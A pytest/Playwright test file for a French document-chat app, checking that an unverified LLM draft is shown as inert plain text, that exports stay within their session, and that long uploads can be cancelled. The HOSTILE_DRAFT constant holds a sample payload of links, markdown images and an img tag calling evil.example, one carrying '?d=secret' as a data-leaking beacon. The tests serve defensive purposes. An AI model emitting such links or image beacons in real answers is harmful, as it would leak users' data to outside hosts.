"""Page-level attacks in a real headless Chromium: an unverified LLM draft that carries a link, an image
and a planted answer is shown as provisional plain text, and nothing in it is clickable or loaded."""

from __future__ import annotations

import dataclasses
import functools
import re
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from assistant.types import Answer, AnswerEvent, Citation
from ingest.pipeline import ingest_paths
from tests.conftest import FakeEmbeddings
from tests.ui_fixtures.browser import chromium, french_page
from tests.ui_fixtures.fakes import PASSAGES, fake_documents, fake_ingest, fake_neighbours
from tests.ui_fixtures.server import running
from ui.app import build_app
from vectorstore.settings import Settings
from vectorstore.store import CorpusIndex

HOSTILE_DRAFT = (
    "PWNED. Voir [le site](http://evil.example/phish) et ![pixel](http://evil.example/p.png?d=secret) "
    "ou <http://evil.example/auto> ou https://evil.example/bare <img src=http://evil.example/i.png> fin."
)
VERIFIED = "Les acteurs de l'ESS proposent un nouveau pacte économique et social."


def hostile_llm(question: str, history=None, **kwargs) -> Iterator[AnswerEvent]:
    """Streams a hostile draft slowly, then the verified answer that replaces it."""
    for word in re.findall(r"\S+\s*", HOSTILE_DRAFT):
        time.sleep(0.12)
        yield AnswerEvent(kind="token", text=word)
    time.sleep(1.5)
    cite = Citation(1, PASSAGES[0], VERIFIED)
    yield AnswerEvent(kind="final", answer=Answer(text=f"{VERIFIED} [1]", citations=[cite], mode="llm"))


@pytest.fixture(scope="module")
def app_url(tmp_path_factory):
    settings = dataclasses.replace(Settings.from_env(), index_dir=tmp_path_factory.mktemp("index"))
    with running(build_app(hostile_llm, fake_ingest, fake_neighbours, fake_documents, settings)) as url:
        yield url


def test_an_unverified_draft_is_provisional_plain_text(app_url):
    with chromium() as browser:
        page = french_page(browser)
        elsewhere: list[str] = []
        page.on("request", lambda r: None if r.url.startswith(app_url) else elsewhere.append(r.url))
        page.goto(app_url)
        page.locator("#ess-question textarea").fill("Que proposent les acteurs ?")
        page.locator("#ess-send").click()
        chat = page.locator("#ess-chat")
        expect(chat).to_contain_text("fin.", timeout=20_000)  # the whole draft is on screen
        expect(chat).to_contain_text("Brouillon en cours de vérification")
        expect(chat).to_contain_text("PWNED")
        bubble = chat.locator("[data-testid='bot']").last
        assert bubble.locator("a").count() == 0 and bubble.locator("img").count() == 0
        assert "evil.example" not in bubble.inner_text()
        expect(chat).to_contain_text(VERIFIED, timeout=20_000)
        expect(chat).not_to_contain_text("PWNED")
        expect(chat).not_to_contain_text("Brouillon")
        page.context.close()
    assert elsewhere == [], f"the page called other hosts: {elsewhere}"


def test_an_export_is_served_to_its_own_session_only(app_url):
    with chromium() as browser:
        mine, other = french_page(browser), french_page(browser)  # two contexts: two sessions
        mine.goto(app_url)
        other.goto(app_url)
        mine.locator("#ess-question textarea").fill("Que proposent les acteurs ?")
        mine.locator("#ess-send").click()
        expect(mine.locator("#ess-chat")).to_contain_text(VERIFIED, timeout=30_000)
        mine.locator("#ess-export").click()
        link = mine.locator("#ess-export-file a").first
        expect(link).to_be_visible(timeout=10_000)
        href = link.get_attribute("href")
        assert href and "/file=" in href
        url = href if href.startswith("http") else app_url.rstrip("/") + "/" + href.lstrip("/")
        assert mine.request.get(url).status == 200
        assert other.request.get(url).status == 404
        mine.context.close()
        other.context.close()


class SlowEmbeddings(FakeEmbeddings):
    """The fake embedder at the pace of a real model on a small machine (a few ms per passage)."""

    slow = False

    def embed_documents(self, texts: list[str]) -> list[list[float]]:
        if self.slow:
            time.sleep(0.01 * len(texts))
        return super().embed_documents(texts)


@pytest.fixture(scope="module")
def real_ingest_url(tmp_path_factory):
    """The app over a real index and ingest (one document), with a slow embedder for long uploads."""
    root = tmp_path_factory.mktemp("long")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "pacte.txt").write_text("Les acteurs de l'ESS proposent un nouveau pacte économique et social.",
                                      encoding="utf-8")
    settings = dataclasses.replace(Settings.from_env(), index_dir=root / "index", chroma_url=None)
    embeddings = SlowEmbeddings()
    index = CorpusIndex(settings, embeddings=embeddings)
    ingest_paths([corpus], index=index)
    embeddings.slow = True
    demo = build_app(hostile_llm, functools.partial(ingest_paths, index=index), fake_neighbours, fake_documents,
                     settings)
    with running(demo) as url:
        yield url, index, root


def test_a_long_upload_shows_its_progress_and_can_be_cancelled(real_ingest_url, tmp_path):
    url, index, _ = real_ingest_url
    before, stored = index.read_manifest(), index.stored_ids()
    long_doc = tmp_path / "long.md"
    long_doc.write_text("\n\n".join(
        f"## Partie {i}\n\nLa coopérative numéro {i} réunit des habitants, des élus et des salariés autour "
        "d'un projet de territoire durable et solidaire, avec des ateliers, des jardins et une épicerie."
        for i in range(600)), encoding="utf-8")  # 600 passages: about 6 s of embedding here
    with chromium() as browser:
        page = french_page(browser)
        page.goto(url)
        page.get_by_role("tab", name="Ajouter des documents").click()
        page.locator("#ess-upload input[type=file]").set_input_files(str(long_doc))
        expect(page.locator("#ess-upload a")).to_have_attribute("href", re.compile(r"long\.md$"))
        page.locator("#ess-add").click()
        expect(page.get_by_text(re.compile(r"long\.md \(\d+/600 passages\)")).first).to_be_visible(timeout=20_000)
        page.locator("#ess-cancel-add").click()
        expect(page.locator("#ess-add-summary")).to_contain_text("Indexation annulée", timeout=20_000)
        expect(page.locator("#ess-add-table")).to_contain_text("annulé")
        page.context.close()
    assert index.read_manifest()["files"] == before["files"] and index.stored_ids() == stored
    assert not (index.settings.index_dir / "uploads" / "long.md").exists()
